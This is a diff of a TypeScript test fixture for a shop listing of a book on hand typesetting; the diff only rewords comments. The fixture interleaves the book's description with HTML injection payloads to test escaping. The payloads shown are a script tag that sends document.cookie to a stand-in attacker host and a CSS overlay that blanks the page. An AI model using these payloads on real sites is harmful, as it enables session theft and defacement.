@@ -1,4 +1,4 @@
-/** What a reader should be left with once the markup is gone. */
+/** The text that should remain when the markup is removed. */
 const story = [
   'An introduction to setting and printing type by hand, for people with a kitchen table and patience.',
   'Eleven chapters go from the parts of a sort to locking up a forme, mixing ink and cleaning up.',
@@ -7,7 +7,7 @@ const story = [
   '156 pages as EPUB and PDF, without copy protection.',
 ];
 
-/** Each line tries another way out of a page that shows the description as it was sent. */
+/** Each line is another attack on a page that would render the description unescaped. */
 const attacks = [
   '<script>document.title="owned";fetch("https://collect.attacker.invalid/c?"+document.cookie)</script>',
   '<style>*{display:none!important}body::before{content:"Store closed";display:block}</style>',
@@ -32,7 +32,7 @@ const attacks = [
 const paragraph = (sentence: string, n: number) =>
   `<p class="c${n}" data-n="${n}"><b>${sentence}</b></p>`;
 
-/** Story and attacks in turn until there are 9 KB. */
+/** 9 KB of text and attacks in turn. */
 export const hostileHtml = Array.from({ length: 112 }, (_, n) =>
   n % 4 === 0 && n / 4 < story.length
     ? paragraph(story[n / 4] ?? '', n)
